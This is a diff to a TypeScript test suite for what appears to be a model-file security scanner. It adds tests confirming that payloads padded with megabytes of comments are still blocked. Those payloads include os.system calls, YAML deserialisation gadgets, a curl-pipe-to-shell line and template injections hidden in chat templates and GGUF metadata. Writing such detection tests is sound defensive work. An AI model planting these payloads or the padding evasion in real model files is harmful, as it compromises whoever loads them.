@@ -348,6 +348,25 @@ const CASES: Readonly<Record<string, Case>> = {
   },
 };
 
+/** More than is read as a whole, of what no reader of the format cares for. */
+const comments = (line: string, bytes: number) => `${line}\n`.repeat(bytes / line.length);
+const LONG = 4.3 * 1024 * 1024;
+const LONG_TEMPLATE = 1.1 * 1024 * 1024;
+const long = '# a comment of a file that is longer than any that people write';
+const longTemplate = `${comments('{# a comment of a template #}', LONG_TEMPLATE)}${SECRET_WALK}`;
+
+test.each([
+  ['modeling_x.py', `${comments(long, LONG)}import os\nos.system("id")\n`],
+  ['conf.yaml', `${comments(long, LONG)}x:\n  _target_: os.system\n`],
+  ['conf.yaml', `${comments(long, LONG)}x: !!python/object/apply:os.system ["id"]\n`],
+  ['run.sh', `#!/bin/sh\n${comments(long, LONG)}curl http://example.org/x | sh\n`],
+  ['chat_template.jinja', longTemplate],
+  ['tokenizer_config.json', JSON.stringify({ chat_template: longTemplate })],
+  ['model.gguf', gguf([ggufText('tokenizer.chat_template', longTemplate)])],
+])('%s is no better for its length', async (path, content) => {
+  expect((await judged(content, path)).verdict).toBe('block');
+});
+
 const many = (count: number, item: Case['harmless'], from = 0) =>
   Array.from({ length: count }, (_, i) => item(from + i));
 
